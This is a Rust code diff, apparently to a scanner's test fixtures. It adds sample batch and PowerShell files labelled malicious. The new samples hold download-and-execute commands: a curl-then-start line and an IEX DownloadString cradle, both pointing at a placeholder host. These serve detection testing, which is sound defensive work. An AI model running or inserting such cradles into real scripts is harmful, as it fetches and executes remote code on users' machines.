@@ -55,8 +55,17 @@ pub fn samples() -> Vec<Sample> {
             "vocab.txt",
             b"#!/usr/bin/env python3\nprint('inert')\n".to_vec(),
         ),
-        ("batch", "install.bat", b"@echo off\r\necho inert\r\n".to_vec()),
-        ("powershell", "setup.ps1", b"Invoke-Expression (Write-Output inert)\r\n".to_vec()),
+        (
+            "batch",
+            "install.bat",
+            b"@echo off\r\ncurl -o inert.exe http://inert.invalid/x\r\nstart inert.exe\r\n"
+                .to_vec(),
+        ),
+        (
+            "powershell",
+            "setup.ps1",
+            b"IEX (New-Object Net.WebClient).DownloadString('http://inert.invalid/x')\r\n".to_vec(),
+        ),
     ];
     let sample = |(what, file, bytes): (&str, &str, Vec<u8>)| {
         Sample::malicious("executable", "executable", what, file, bytes)
